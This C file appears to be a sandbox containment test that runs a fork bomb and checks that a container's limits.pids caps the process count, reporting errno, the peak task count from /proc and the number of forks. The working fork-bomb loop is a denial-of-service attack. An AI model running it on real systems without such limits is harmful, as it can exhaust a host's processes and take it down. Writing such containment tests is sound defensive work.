// Attack: a fork bomb in C: fork as fast as the kernel allows, every child
// forking too and then sleeping, until fork fails.
// Contained by limits.pids: fork fails with EAGAIN and the container never
// holds more than limits.pids tasks (processes + threads).
// Reports: "errno EAGAIN" (the first failed fork's error), "peak_tasks N"
// (the tasks counted in /proc, PID 1 included, at the failure) and
// "forked N".
#include <dirent.h>
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int Tasks(void) {
  int n = 0;
  DIR* proc = opendir("/proc");
  struct dirent* e;
  while (proc && (e = readdir(proc)) != NULL) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/task", e->d_name);
    DIR* task = opendir(path);
    struct dirent* t;
    while (task && (t = readdir(task)) != NULL) n += t->d_name[0] != '.';
    if (task) closedir(task);
  }
  if (proc) closedir(proc);
  return n;
}

int main(void) {
  int forked = 0;
  for (;;) {
    pid_t pid = fork();
    if (pid == 0) {
      pause();  // Hold the slot until the job ends.
      _exit(0);
    }
    if (pid < 0) {
      int err = errno;
      printf("errno %s\n", err == EAGAIN ? "EAGAIN" : strerror(err));
      printf("peak_tasks %d\n", Tasks());
      printf("forked %d\n", forked);
      fflush(stdout);
      kill(0, SIGKILL);  // The children, and this process: the job ends.
    }
    ++forked;
  }
}
